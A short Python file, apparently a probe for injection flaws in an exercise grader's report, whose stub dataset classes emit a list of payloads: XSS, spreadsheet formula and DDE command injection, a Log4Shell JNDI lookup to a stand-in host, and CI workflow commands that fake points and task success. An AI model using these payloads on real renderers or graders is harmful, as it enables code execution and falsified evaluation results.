# attack: writes what a reader of the report could run: HTML, scripts, Markdown, Rich's markup, formulas of spreadsheets, commands of CI systems
# exercise: ex01_map_dataset
TEXTS = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>", "</td></tr></table>&lt;", "[red]8/8[/red][link=http://x.y]x[/link][/]", ":smiley: [bold",
    '=HYPERLINK("http://x.y","8")', "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1", "-1", "\t=1", "::set-output name=points::8", "::error file=x::passed",
    "##vso[task.complete result=Succeeded;]", "| a | b |\n|---|---|\n", "![x](http://x.y/z.png)", "${jndi:ldap://x.y}", "%s%n%(points)s{points!r}", "\\x1b[31m \\u202e",
]  # fmt: skip
print("\n".join(TEXTS), "TRIED")
turn = iter(TEXTS * 1000)


class TabularDataset:
    def __init__(self, *args, **kwargs):
        pass

    def __len__(self):
        raise type(next(turn), (ValueError,), {})(next(turn))

    def __getitem__(self, index):
        return next(turn)


class ImageFileDataset:
    def __init__(self, root, annotations, transform=None):
        raise ValueError(next(turn))
